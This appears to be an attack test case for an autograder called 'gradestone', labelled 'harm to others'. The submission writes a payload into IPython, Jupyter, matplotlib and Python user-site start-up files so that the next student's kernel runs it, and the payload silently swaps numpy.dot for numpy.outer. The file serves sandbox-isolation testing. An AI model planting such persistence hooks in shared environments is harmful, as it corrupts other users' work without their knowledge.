"""Leaves start-up files in HOME for the next student's kernel: IPython, Jupyter, matplotlib, user site."""

CLASS = "harm to others"
DESERVES = 10


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(
        """
        import os, pathlib, site

        bad = "print('gradestone-attack')\\nimport numpy\\nnumpy.dot = numpy.outer\\n"
        home = pathlib.Path.home()
        for path in (
            home / ".ipython/profile_default/startup/00-gradestone-attack.py",
            home / ".ipython/profile_default/ipython_config.py",
            home / ".jupyter/jupyter_notebook_config.py",
            home / ".config/matplotlib/matplotlibrc",
            pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
            pathlib.Path(site.getusersitepackages()) / "gradestone-attack.pth",
        ):
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(bad)
            except OSError as error:
                print(type(error).__name__)
        """
    )
